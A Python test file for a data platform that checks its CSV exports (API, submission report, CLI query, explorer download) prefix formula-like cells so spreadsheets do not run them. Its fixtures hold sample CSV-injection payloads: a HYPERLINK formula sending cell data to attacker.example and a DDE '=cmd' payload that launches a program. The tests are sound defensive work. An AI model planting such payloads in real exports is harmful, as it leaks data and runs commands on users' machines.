"""No CSV the platform writes for people carries a cell a spreadsheet would run as a formula.

Each writer is checked as users reach it: the JSON API's CSV and the submission report's CSV over HTTP on a
live server, ``pivgm query --format csv`` as a subprocess. SDMX-CSV from the SDMX API is machine-to-machine
and stays faithful to the data (docs/security.md); the explorer's SDMX-CSV download, made for people, is
neutralised.
"""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest

from pivgm.accounts.actor import Role
from pivgm.cells import safe
from pivgm.ingest.mapping import Mapping
from pivgm.platform import Platform
from pivgm.workflow.submissions import SubmissionRequest, submit
from pivgm.workflow.transitions import take_step
from tests.backends import environment_for
from tests.conftest import new_platform
from tests.executable import EXECUTABLE
from tests.people import ADMIN, person
from tests.sdmx.live import live_server

FLOW = "DF_IRREGULAR_TRANSIT"
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
CALC = "=cmd|' /C calc'!A0"
MAPPING = Mapping(
    columns={"CITIZENSHIP": "Nacionalidad", "TIME_PERIOD": "Mes", "OBS_VALUE": "Eventos", "OBS_COMMENT": "Nota"},
    constants={"FREQ": "M", "SEX": "_T", "AGE": "_T", "ACCOMPANIMENT": "_T", "UNIT_MEASURE": "EVENTS"}
    | {"REF_AREA": "MEX"},
)


@dataclass(frozen=True)
class Served:
    platform: Platform
    base: str
    token: str
    with_problems: int


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A published observation whose comment is a formula, and a submission whose problems quote formulas."""
    platform = new_platform(tmp_path_factory.mktemp("cells"))
    admin = person(platform, "admin", (Role.ADMINISTRATOR, None))
    text = f'Nacionalidad;Mes;Eventos;Nota\nVEN;2024-01;4321;"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
    published = submit(platform, SubmissionRequest("MX_UPM", FLOW, "ok.csv", text.encode(), MAPPING))
    for action in ["submit", "approve-national", "approve-regional", "publish"]:
        take_step(platform, ADMIN, published.submission.id, action, "", None)
    bad = f"Nacionalidad;Mes;Eventos;Nota\n{CALC};2024-02;-5;x\n@SUM(A1);2024-03;+7;y\n"
    with_problems = submit(platform, SubmissionRequest("MX_UPM", FLOW, "bad.csv", bad.encode(), MAPPING))
    assert not with_problems.report.valid
    with live_server(platform) as sdmx_url:
        yield Served(platform, sdmx_url.removesuffix("/sdmx/rest"), admin.token, with_problems.submission.id)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if not cell.startswith("#")]


def assert_no_formula(text: str) -> None:
    dangerous = [c for c in cells(text) if c.startswith(("=", "+", "-", "@", "\t", "\r")) and safe(c) != c]
    assert not dangerous, dangerous


def test_the_json_apis_csv_neutralises_a_formula_comment(served):
    """Fails if /api/data's CSV writer stops neutralising text cells."""
    response = httpx.get(f"{served.base}/api/data/{FLOW}", params={"format": "csv"})
    assert response.status_code == 200
    assert "'" + HYPERLINK in cells(response.text)
    assert "4321" in cells(response.text)  # numbers stay numbers
    assert_no_formula(response.text)
    assert httpx.get(f"{served.base}/api/data/{FLOW}").json()["observations"][0]["OBS_COMMENT"] == HYPERLINK


def test_the_submission_report_csv_neutralises_quoted_values_and_keeps_negative_numbers(served):
    """Fails if the report's CSV writer stops neutralising its cells (reviewers open it in Excel)."""
    url = f"{served.base}/api/submissions/{served.with_problems}/report"
    response = httpx.get(url, params={"format": "csv"}, headers={"Authorization": f"Bearer {served.token}"})
    assert response.status_code == 200, response.text
    found = cells(response.text)
    assert "'" + CALC in found and "'@SUM(A1)" in found
    assert "-5" in found  # a plain number is no formula: it stays a number
    assert_no_formula(response.text)


def test_pivgm_query_csv_neutralises_a_formula_comment(served):
    """Fails if ``pivgm query --format csv`` stops neutralising text cells."""
    done = subprocess.run(
        [str(EXECUTABLE), "query", FLOW, "--format", "csv"],
        env=environment_for(served.platform.settings),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert "'" + HYPERLINK in cells(done.stdout)
    assert_no_formula(done.stdout)


def test_sdmx_csv_from_the_sdmx_api_is_faithful_and_the_explorers_is_neutralised(served):
    """The documented choice: SDMX REST answers are for programs; the explorer's downloads are for people."""
    sdmx = httpx.get(f"{served.base}/sdmx/rest/data/{FLOW}/all", params={"format": "csvfile"})
    assert HYPERLINK in cells(sdmx.text)
    explorer = httpx.get(f"{served.base}/explore/{FLOW}/download", params={"format": "sdmx-csv", "scope": "full"})
    assert "'" + HYPERLINK in cells(explorer.text)
    assert_no_formula(explorer.text)


@pytest.mark.parametrize("number", ["-5", "+7", "-0.25", "1e-3", "-1.5E+3", ".5"])
def test_text_that_is_a_plain_number_is_left_alone(number):
    assert safe(number) == number


@pytest.mark.parametrize("formula", ["-2+3", "+1+1", "-A1", "=1", "@x", "\t1", "\r1", "-5 ", "--5"])
def test_anything_else_starting_like_a_formula_is_neutralised(formula):
    assert safe(formula) == "'" + formula
